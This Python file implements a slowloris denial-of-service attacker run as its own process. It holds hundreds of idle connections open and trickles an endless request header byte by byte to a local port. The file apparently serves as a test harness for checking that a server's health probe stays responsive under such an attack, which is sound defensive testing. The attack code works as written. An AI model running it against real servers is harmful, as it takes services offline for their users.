"""A slowloris attacker, run as its own process: ``python slowloris.py PORT`` until killed.

Keeps up to SILENT_CONNECTIONS connections open that never send a byte (reopening those the
server drops), and TRICKLERS connections that send a never-ending request head a byte every
50 ms. Its own process, so the attack does not slow down the event loop that measures the probe.
"""

from __future__ import annotations

import asyncio
import sys

SILENT_CONNECTIONS = 600
TRICKLERS = 40


async def trickle(port: int) -> None:
    while True:
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            for byte in b"GET /healthz HTTP/1.1\r\nX-Slow: " + b"a" * 10_000:
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(0.05)
            writer.close()
        except OSError:
            await asyncio.sleep(0.01)


async def flood(port: int) -> None:
    held: list[asyncio.StreamWriter] = []
    while True:
        held = [w for w in held if not w.is_closing()]
        while len(held) < SILENT_CONNECTIONS:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                break
            held.append(writer)
        await asyncio.sleep(0.2)


async def main(port: int) -> None:
    await asyncio.gather(flood(port), *(trickle(port) for _ in range(TRICKLERS)))


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1])))
